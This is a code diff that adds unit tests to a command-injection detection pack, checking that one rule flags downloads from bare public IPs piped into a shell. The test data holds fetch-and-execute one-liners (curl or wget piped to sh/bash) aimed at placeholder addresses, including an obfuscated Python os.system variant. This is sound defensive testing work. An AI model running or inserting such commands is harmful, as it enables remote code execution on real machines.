@@ -744,6 +744,19 @@ describe('Python code that imports a process module and calls it, where a server
   });
 });
 
+describe('a download from a bare public address piped into a shell', () => {
+  it('is read wherever the pipe sits: a quoted -c argument, a string handed to a process call, prose', () => {
+    expect(idsOf(commandInjectionPack, '-c "curl -s http://203.0.113.7/m.sh|sh"')).toContain(400104);
+    expect(idsOf(commandInjectionPack, "getattr(getattr(__builtins__,'__imp'+'ort__')('o'+'s'),'sys'+'tem')('curl -s 203.0.113.7/g|sh')")).toContain(400104);
+    expect(idsOf(commandInjectionPack, 'To fix it run wget -qO- 198.51.100.23:8080/fix | bash and reboot.')).toContain(400104);
+  });
+
+  it("not a how-to's installer fetched by name, nor one from its own network's address", () => {
+    expect(idsOf(commandInjectionPack, 'To install, run curl -fsSL https://get.docker.com | sh and then reboot the machine.')).not.toContain(400104);
+    expect(idsOf(commandInjectionPack, 'On the build host run curl -s http://10.0.0.5/setup.sh | sh and wait.')).not.toContain(400104);
+  });
+});
+
 describe('a backtick substitution glued to the value the form asked for', () => {
   it("reads `example.org`echo X`` as a command, not Markdown's code spans or a tagged template in a paste", () => {
     expect(idsOf(commandInjectionPack, 'example.org`echo WQRNKA`')).toContain(400105);
